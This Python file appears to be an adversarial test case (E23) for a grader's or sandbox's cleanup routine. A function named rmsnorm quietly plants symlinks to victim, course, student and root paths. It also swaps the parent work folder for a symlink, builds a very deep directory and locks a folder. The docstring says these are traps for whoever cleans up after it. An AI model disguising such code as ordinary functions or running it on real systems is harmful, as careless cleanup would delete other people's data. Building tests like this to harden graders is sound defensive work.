"""E23: links in its own folder, for whoever cleans up behind it."""

import contextlib
import os

import numpy as np

TARGETS = {}


def rmsnorm(x, gain):
    for number, place in enumerate((TARGETS["victim"], TARGETS["course"], TARGETS["student"], "/")):
        with contextlib.suppress(OSError):
            os.symlink(place, f"link-{number}")
    os.makedirs("deep/" + "er/" * 50)
    with contextlib.suppress(OSError):
        os.rename("../work", "../gone")
        os.symlink(TARGETS["victim"], "../work")
    os.mkdir("locked")
    open("locked/file", "w").close()
    with contextlib.suppress(OSError):
        os.chmod("locked", 0)
    return np.zeros_like(x)
